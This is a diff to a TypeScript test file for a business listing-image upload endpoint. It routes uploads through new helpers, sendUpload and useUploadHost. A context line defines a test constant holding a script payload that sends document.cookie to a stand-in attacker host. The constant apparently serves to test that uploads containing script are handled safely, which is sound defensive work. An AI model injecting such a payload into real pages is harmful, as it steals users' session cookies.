@@ -10,6 +10,9 @@ import { uploadedImagePrefix } from '../../src/server/listings/listing-images.ts
 import { IMAGE_UNREADABLE_MESSAGE } from '../../src/shared/images.ts';
 import { call } from './helpers.ts';
 import { registerAccount, type TestAccount } from './accounts-helpers.ts';
+import { sendUpload, useUploadHost } from './upload-helpers.ts';
+
+useUploadHost();
 
 const SCRIPT = '<script>fetch("https://evil.example/?c=" + document.cookie)</script>';
 const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
@@ -17,7 +20,7 @@ const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
 function upload(account: TestAccount, bytes: Uint8Array, type: string, name: string) {
   const body = new FormData();
   body.set('image', new File([new Uint8Array(bytes)], name, { type }));
-  return call(listingImage, '/api/business/listing-image', {
+  return sendUpload(listingImage, '/api/business/listing-image', {
     method: 'POST',
     body,
     headers: { cookie: account.cookie },
